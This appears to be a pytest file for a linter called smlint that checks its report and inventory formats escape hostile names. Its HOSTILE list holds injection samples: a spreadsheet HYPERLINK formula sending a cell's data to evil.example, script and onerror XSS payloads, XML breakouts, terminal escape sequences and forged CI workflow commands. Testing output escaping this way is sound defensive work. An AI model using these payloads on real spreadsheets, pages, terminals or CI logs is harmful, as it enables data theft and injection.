"""Every report and inventory format escapes the names, paths and messages of a hostile manifest.

The tables `REPORTERS` and `INVENTORY_FORMATS` drive these tests, so a new format is covered by its declared medium.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest

from smlint.inventory import INVENTORY_FORMATS
from smlint.inventory.collect import Inventory, InventoryRow
from smlint.linter.fact_fields import FIELDS, FactEntry
from smlint.model.facts import State
from smlint.model.findings import Applicability, Edit, Finding, Fix, RelatedSpan, RuleInfo, Severity, Suppression
from smlint.model.results import Report, SkippedFile, Summary
from smlint.model.source import Span
from smlint.reporters import REPORTERS, STEP_SUMMARY
from smlint.reporters.style import Style
from smlint.runtime.escaping import FORMULA_PREFIXES, Medium
from tests.sample_reports import Source

HARMLESS = "churn model"

HOSTILE = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"open")', id="a formula"),
    pytest.param("+1", id="a formula that starts with a plus sign"),
    pytest.param("\t@SUM(A1)", id="a formula after a tab"),
    pytest.param("\uff1d1+1", id="a formula with a full-width sign"),
    pytest.param('a,"b";c', id="separators and quotes of CSV"),
    pytest.param("[click](https://evil.example) ![x](y) <https://evil.example>", id="Markdown links"),
    pytest.param("a | b\\| c\\\\| `code` **bold** __bold__ ~~gone~~ # title", id="Markdown markup and table cells"),
    pytest.param("@team https://evil.example www.evil.example", id="mentions and bare addresses"),
    pytest.param("<script>alert(1)</script><img src=x onerror=alert(1)>", id="HTML elements"),
    pytest.param("\" onmouseover='alert(1)' x=\"", id="HTML attributes"),
    pytest.param("]]> <injected/> &injected; <!-- -->", id="XML markup"),
    pytest.param("\x00\x01\x0b\x0c\x1b\x7f\x85\x9b\ufffe\ud83d", id="control characters and lone surrogates"),
    pytest.param("\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link", id="terminal escape sequences"),
    pytest.param("\u202eevil\u2066\u2067\u200f\u061c", id="bidirectional controls"),
    pytest.param("a\r\n::error file=x::injected\n::set-output name=x::y", id="workflow commands on new lines"),
    pytest.param("%0A::error::injected%0D, line=9::", id="workflow commands with encoded line ends"),
    pytest.param("a\ninjected\rinjected\u2028injected\u2029injected\x85injected", id="line ends of every kind"),
    pytest.param('"},{"injected":true', id="JSON markup"),
]


def report(name: str) -> Report:
    """A report in which every text that a manifest, a path or a custom rule controls contains `name`."""
    text = f"image: {HARMLESS}\nother: x\n"
    source = Source(f"{name}.yaml", text)
    finding = Finding(
        rule="unpinned-image",
        category="version",
        severity=Severity.WARNING,
        message=name,
        source=source,
        span=Span(7, 12),
        pointer=f"/{name}",
        resource=name,
        format="native",
        regions=("us-east-1", "eu-west-1"),
        related=(RelatedSpan(Span(20, 21), name), RelatedSpan(Span(0, 5), name, Source(name, text))),
        fix=Fix(name, Applicability.UNSAFE, (Edit(Span(7, 12), HARMLESS, name.replace("\r", "").replace("\n", "")),)),
        value=name,
    )
    findings = (
        finding,
        finding._replace(fix=finding.fix._replace(applicability=Applicability.SAFE) if finding.fix is not None else None),
        finding._replace(suppressed=Suppression("comment", name)),
        finding._replace(source=Source(name, f"image: {_one_line(name)}\n"), span=Span(0, 5), related=(), fix=None),
    )
    return Report(
        findings=findings,
        skipped=(SkippedFile(f"skipped {name}", name), SkippedFile(f"{name} skipped", name)),
        summary=Summary(files=3, manifests=2, deployments=2, warnings=3, suppressed=1),
        catalog_as_of="2026-11-22",
        formats=((f"{name}.yaml", "native"), (f"clean {name}", "native")),
    )


def inventory(name: str) -> Inventory:
    """An inventory in which every text is `name`."""
    facts = {field.name: FactEntry(State.KNOWN, {name: name} if field.name == "libraries" else name) for field in FIELDS}
    dated = {**facts, "end_of_patch": FactEntry(State.KNOWN, "2026-06-30"), "patch_days_left": FactEntry(State.KNOWN, 30)}
    rows = (InventoryRow(name, 1, name, facts), InventoryRow(f"other {name}", 2, name, dated), InventoryRow("x", 3, name, dated))
    return Inventory(rows, 3, ((name, name),))


def _one_line(text: str) -> str:
    return re.sub(r"[\r\n]", " ", text)


STYLE = Style(
    regions=True,
    rules=(
        RuleInfo(
            name="unpinned-image", category="version", severity=Severity.NOTE, summary="s", description="d", help_text="h", help_markdown="m"
        ),
    ),
    folder="/repository",
    repository="/repository",
)

Render = Callable[[str], str]

FORMATS = [
    *(
        pytest.param(lambda name, reporter=reporter: reporter.render(report(name), STYLE), reporter.medium, id=f"report {reporter.name}")
        for reporter in (*REPORTERS.values(), STEP_SUMMARY)
    ),
    *(
        pytest.param(lambda name, entry=entry: entry.render(inventory(name), "2026-05-31", False), entry.medium, id=f"inventory {entry.name}")
        for entry in INVENTORY_FORMATS.values()
    ),
]


def check_printable(text: str) -> None:
    """Nothing but line feeds controls a terminal, and no line starts with injected text."""
    unprintable = {character for character in text if not (character.isprintable() or character in "\n\u3000")}
    assert not unprintable
    assert not re.search(r"^\s*(injected|::)", text, re.MULTILINE)


def check_terminal(hostile: str, harmless: str) -> None:
    check_printable(hostile)


def check_xml(hostile: str, harmless: str) -> None:
    """The document is well-formed, in ASCII, and has the same elements and attributes."""
    check_printable(hostile)

    def shape(text: str) -> list[tuple[str, list[str]]]:
        root = ElementTree.fromstring(text)  # noqa: S314  # written by smlint
        return sorted((element.tag, list(element.attrib)) for element in root.iter())  # the order of the files depends on their names

    assert hostile.isascii()
    assert shape(hostile) == shape(harmless)


class Tags(HTMLParser):
    """Collects the tags of a page, with the names of their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, [name for name, _ in attrs]))

    def handle_endtag(self, tag: str) -> None:
        self.found.append((f"/{tag}", []))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", []))


def check_html(hostile: str, harmless: str) -> None:
    """The page has the same tags and attributes, and can be encoded."""
    hostile.encode("utf-8")
    assert Tags(hostile).found == Tags(harmless).found


def check_csv(hostile: str, harmless: str) -> None:
    """The file has the same rows and columns, and no cell is a formula or controls a terminal."""
    check_printable(hostile)
    rows, expected = list(csv.reader(io.StringIO(hostile))), list(csv.reader(io.StringIO(harmless)))
    assert [len(row) for row in rows] == [len(row) for row in expected]
    assert not [cell for row in rows for cell in row if cell.lstrip()[:1] in FORMULA_PREFIXES]


def check_markdown(hostile: str, harmless: str) -> None:
    """The document has the same markup: every other character with a meaning is escaped."""
    check_printable(hostile)

    def markup(text: str) -> str:
        return "".join(re.findall(r"(?:^#+)|[`*_\[\]<>|~&@\n]|://|www\.", re.sub(r"\\[!-/:-@\[-`{-~]", "", text), re.MULTILINE))

    assert markup(hostile).replace("www.", "") == markup(harmless)


def check_json(hostile: str, harmless: str) -> None:
    """The document is ASCII JSON of the same shape, and its strings can be encoded."""

    def shape(value: object) -> object:
        if isinstance(value, dict):
            return [[key if isinstance(key, str) and key.isidentifier() else "key", shape(item)] for key, item in value.items()]
        return [shape(item) for item in value] if isinstance(value, list) else type(value).__name__

    data, expected = json.loads(hostile), json.loads(harmless)
    assert hostile.isascii()
    check_printable(hostile)
    json.dumps(data, ensure_ascii=False).encode("utf-8")
    assert shape(data) == shape(expected)


def check_workflow_commands(hostile: str, harmless: str) -> None:
    """Each line is one of smlint's commands, with the same properties."""
    unprintable = {character for character in hostile if not (character.isprintable() or character in "\n\u3000")}
    assert not unprintable

    def commands(text: str) -> list[tuple[str, list[str]]]:
        parsed = []
        for line in text.split("\n")[:-1]:
            match = re.fullmatch(r"::([a-z]+) (.*?)::(.*)", line)
            assert match is not None, line
            parsed.append((match[1], [item.partition("=")[0] for item in match[2].split(",")]))
        return parsed

    assert commands(hostile) == commands(harmless)


CHECKS: dict[Medium, Callable[[str, str], None]] = {
    Medium.TERMINAL: check_terminal,
    Medium.XML: check_xml,
    Medium.HTML: check_html,
    Medium.CSV: check_csv,
    Medium.MARKDOWN: check_markdown,
    Medium.JSON: check_json,
    Medium.WORKFLOW_COMMANDS: check_workflow_commands,
}


def test_every_medium_has_a_check() -> None:
    assert set(CHECKS) == set(Medium)


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize(("render", "medium"), FORMATS)
def test_hostile_names_stay_text(render: Render, medium: Medium, name: str) -> None:
    CHECKS[medium](render(name), render(HARMLESS))


@pytest.mark.parametrize("reporter", [reporter for reporter in REPORTERS.values() if reporter.for_people], ids=lambda reporter: reporter.name)
def test_hostile_names_stay_text_in_a_colored_report(reporter: object) -> None:
    for case in HOSTILE:
        text = REPORTERS[reporter.name].render(report(str(case.values[0])), STYLE._replace(color=True))  # type: ignore[attr-defined]
        check_terminal(re.sub(r"\x1b\[(?:0|1|3[1-4])m", "", text), "")


CARELESS: dict[Medium, Render] = {
    Medium.TERMINAL: lambda name: f"{name}\n",
    Medium.XML: lambda name: f'<testsuites name="{name}">{name}</testsuites>',
    Medium.HTML: lambda name: f'<p title="{name}">{name}</p>',
    Medium.CSV: lambda name: f"file,line\n{name},1\n",
    Medium.MARKDOWN: lambda name: f"| file |\n|---|\n| {name} |\n",
    Medium.JSON: lambda name: f'[{{"file": "{name}"}}]\n',
    Medium.WORKFLOW_COMMANDS: lambda name: f"::error file={name}::{name}\n",
}


@pytest.mark.parametrize("medium", Medium, ids=lambda medium: medium.value)
def test_a_format_that_forgets_to_escape_fails(medium: Medium) -> None:
    failed = 0
    for case in HOSTILE:
        try:
            CHECKS[medium](CARELESS[medium](str(case.values[0])), CARELESS[medium](HARMLESS))
        except (AssertionError, ValueError, ElementTree.ParseError, csv.Error):
            failed += 1
    assert failed >= 3


def test_quoting_alone_does_not_make_csv_safe() -> None:
    def render(name: str) -> str:
        stream = io.StringIO()
        csv.writer(stream, lineterminator="\n").writerow([name, 1])
        return stream.getvalue()

    with pytest.raises(AssertionError):
        check_csv(render("=1+1"), render(HARMLESS))
